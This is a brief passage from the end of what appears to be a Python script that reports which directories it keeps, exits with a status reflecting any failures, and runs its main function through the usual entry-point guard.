        else:
            print("kept: " + directory)
    sys.exit(1 if failed else 0)


if __name__ == "__main__":
    main()
